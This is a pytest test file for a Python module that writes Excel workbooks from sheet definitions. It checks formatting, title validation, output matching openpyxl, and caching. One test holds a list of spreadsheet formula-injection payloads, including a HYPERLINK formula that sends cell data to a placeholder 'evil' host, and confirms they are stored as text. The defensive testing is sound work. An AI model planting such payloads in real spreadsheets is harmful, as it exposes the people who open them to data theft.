from __future__ import annotations

import datetime
import io
import zipfile

import pytest
from lxml import etree
from openpyxl import load_workbook
from openpyxl.utils.exceptions import IllegalCharacterError

from feedback.lib.workbook import DATETIME, INTEGER, PERCENT, Column, Sheet, workbook_bytes


def _book() -> bytes:
    return workbook_bytes(
        [
            Sheet(
                "Per måned",
                [Column("Måned", 12), Column("Poster", 10, INTEGER), Column("Endring", 9, PERCENT)],
                rows=[["Januar", 1200, 0.25], ["Februar", 30, None]],
                total=["Totalt", 1230, None],
            ),
            Sheet("Tom", [Column("Kode")], rows=[], empty_text="Ingen koder"),
        ]
    )


def test_the_workbook_opens_with_headers_formats_widths_and_frozen_header():
    book = load_workbook(io.BytesIO(_book()))
    assert book.sheetnames == ["Per måned", "Tom"]
    ws = book["Per måned"]
    assert [c.value for c in ws[1]] == ["Måned", "Poster", "Endring"]
    assert ws["A1"].font.bold
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == "A1:C3"
    assert ws.column_dimensions["A"].width == 12
    assert ws["B2"].value == 1200 and ws["B2"].number_format == INTEGER
    assert ws["C2"].number_format == PERCENT
    assert [c.value for c in ws[4]] == ["Totalt", 1230, None]
    assert ws["A4"].font.bold
    assert book["Tom"]["A2"].value == "Ingen koder"


@pytest.mark.parametrize("title", ["", "x" * 32, "a/b", "what?"])
def test_invalid_sheet_titles_are_refused(title):
    with pytest.raises(ValueError):
        Sheet(title, [Column("A")], rows=[])


def test_rows_must_match_the_columns():
    with pytest.raises(ValueError):
        Sheet("Ark", [Column("A"), Column("B")], rows=[[1]])


def _parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {
            name: etree.tostring(etree.fromstring(archive.read(name)), method="c14n")
            for name in archive.namelist()
            if name != "docProps/core.xml"  # the time it was written
        }


def test_plain_rows_are_written_as_openpyxl_writes_them():
    """The shortcut for rows of plain values (_sheet_data) gives the same XML as openpyxl's own cell writer,
    for every kind of value; what it does not handle itself goes through openpyxl."""
    when = datetime.datetime(2024, 3, 5, 14, 30)
    sheets = [
        Sheet(
            "Alt",
            [Column("Tekst"), Column("Tall", 10, INTEGER), Column("Andel", 9, PERCENT), Column("Når", 17, DATETIME)],
            rows=[
                ["Januar", 1200, 0.25, when],
                [" mellomrom ", None, None, datetime.date(2024, 1, 31)],
                ["", 0, -1.5, None],
                ["<&> \"æøå\" 'x' \t tab\r\nlinje\n😀 ]]> &amp;", 12345678901234567, 1 / 3, when],
                ["\n", -0.0, 1e-20, datetime.datetime(1900, 1, 1, 0, 0, 1)],
                ["=SUM(B2:B3)", 1, 0.5, None],
                ["#N/A", True, float("nan"), None],
                ["x" * 40000, float("inf"), 2, None],
                [1.5, "tekst i tallkolonne", "", "ikke dato"],
                ["for lang rad", 1, 2, when, "ekstra"],
            ],
            total=["Totalt", 1230, None, ""],
            notes=["En merknad", "=ikke formel?"],
        ),
        Sheet("Uten format", [Column("Dato"), Column("Tall")], rows=[[when, 3], [datetime.date(2024, 2, 1), 4.0]]),
        Sheet("Tom", [Column("Kode")], rows=[], empty_text="Ingen koder"),
    ]
    fast = _parts(workbook_bytes(sheets))
    assert fast == _parts(workbook_bytes(sheets, plain_rows=False))
    # Text that openpyxl on its own writes as a formula or an error code is written as text by both.
    sheet = fast["xl/worksheets/sheet1.xml"]
    assert b'<c r="A7" t="inlineStr"><is><t>=SUM(B2:B3)</t></is></c>' in sheet
    assert b'<c r="A8" t="inlineStr"><is><t>#N/A</t></is></c>' in sheet
    assert b"<f>" not in sheet and b't="e"' not in sheet


def test_illegal_characters_are_refused_as_openpyxl_refuses_them():
    sheet = Sheet("Ark", [Column("A")], rows=[["bjelle\x07"]])
    with pytest.raises(IllegalCharacterError):
        workbook_bytes([sheet])


HOSTILE = ["=1+1", "+cmd", "@SUM(A1)", "-2+3", '=HYPERLINK("http://evil/?"&A1,"klikk")', "#REF!", " =1+1"]


@pytest.mark.parametrize("plain_rows", [True, False])
def test_text_is_written_as_text_never_as_a_formula(plain_rows):
    """Text from submitters (record ids, paths, messages, names) is a text cell whatever it starts with, in
    every part of a sheet and on both ways of writing rows; numbers, dates and booleans keep their types."""
    when = datetime.datetime(2024, 3, 5, 14, 30)
    sheets = [
        Sheet(
            "Funn",
            [Column("=Tittel"), Column("Tall", 10, INTEGER), Column("Når", 17, DATETIME), Column("Andel", 9, PERCENT)],
            rows=[[value, -12, when, -0.5] for value in HOSTILE] + [["ja", True, None, "=2+2"]],
            total=["=SUM(B2:B8)", -84, None, "@x"],
            notes=["=merknad", "-merknad"],
        ),
        Sheet("Tom", [Column("Kode")], rows=[], empty_text="=tom"),
    ]
    book = load_workbook(io.BytesIO(workbook_bytes(sheets, plain_rows=plain_rows)))
    ws = book["Funn"]
    assert (ws["A1"].value, ws["A1"].data_type) == ("=Tittel", "s")
    for row, value in enumerate(HOSTILE, start=2):
        text, number, date, share = ws[row]
        assert (text.value, text.data_type) == (value, "s")
        assert (number.value, number.data_type, number.number_format) == (-12, "n", INTEGER)
        assert (date.value, date.is_date) == (when, True)
        assert (share.value, share.data_type) == (-0.5, "n")
    assert (ws["B9"].value, ws["B9"].data_type) == (True, "b")
    assert (ws["D9"].value, ws["D9"].data_type) == ("=2+2", "s")
    total = ws[10]
    assert [(c.value, c.data_type) for c in total] == [("=SUM(B2:B8)", "s"), (-84, "n"), (None, "n"), ("@x", "s")]
    assert (ws["A12"].value, ws["A12"].data_type) == ("=merknad", "s")
    assert (ws["A13"].value, ws["A13"].data_type) == ("-merknad", "s")
    assert (book["Tom"]["A2"].value, book["Tom"]["A2"].data_type) == ("=tom", "s")
    for part, xml in _parts(workbook_bytes(sheets, plain_rows=plain_rows)).items():
        if part.startswith("xl/worksheets/"):
            assert b"<f>" not in xml and b't="e"' not in xml, part


def _shapes() -> list[list[Sheet]]:
    """Workbooks whose cached parts differ: sheet counts, column widths and styles used in another order."""
    when = datetime.datetime(2024, 3, 5, 14, 30)
    return [
        [
            Sheet("Per måned", [Column("Måned", 12), Column("Poster", 10, INTEGER)], rows=[["Januar", 3]]),
            Sheet("Funn", [Column("Når", 17, DATETIME), Column("Andel", 9, PERCENT)], rows=[[when, 0.5]]),
        ],
        [
            Sheet("Andeler", [Column("Andel", 9, PERCENT), Column("Når", 17, DATETIME)], rows=[[0.5, when]]),
            Sheet("Tom", [Column("Kode", 30)], rows=[], empty_text="Ingen"),
            Sheet(
                "Totalt",
                [Column("Måned", 12), Column("Poster", 10, INTEGER)],
                rows=[["Januar", 3]],
                total=["Sum", 3],
            ),
        ],
        [Sheet("Ett ark", [Column("A", 12), Column("B", 10, INTEGER)], rows=[["x", 1]], notes=["Merknad"])],
    ]


def test_the_parts_built_once_per_process_are_those_openpyxl_builds(monkeypatch):
    """The parts taken from the cache (styles, relationships, sheet tops) are what openpyxl's own writer
    makes for each workbook, also when another workbook's parts are in the cache."""
    from openpyxl.writer.excel import ExcelWriter

    from feedback.lib import workbook as module

    shapes = _shapes()
    with monkeypatch.context() as patched:
        patched.setattr(module._InMemoryExcelWriter, "write_data", ExcelWriter.write_data)
        patched.setattr(module._SheetWriter, "write_top", module.WorksheetWriter.write_top)
        expected = [_parts(workbook_bytes(sheets)) for sheets in shapes]
    module._PART_CACHE.clear()
    for _ in range(2):  # the second time, every part comes from the cache
        for sheets, parts in zip(shapes, expected, strict=True):
            assert _parts(workbook_bytes(sheets)) == parts
    assert any(key[0] == "top" for key in module._PART_CACHE)
    assert any(key[0] == "styles" for key in module._PART_CACHE)
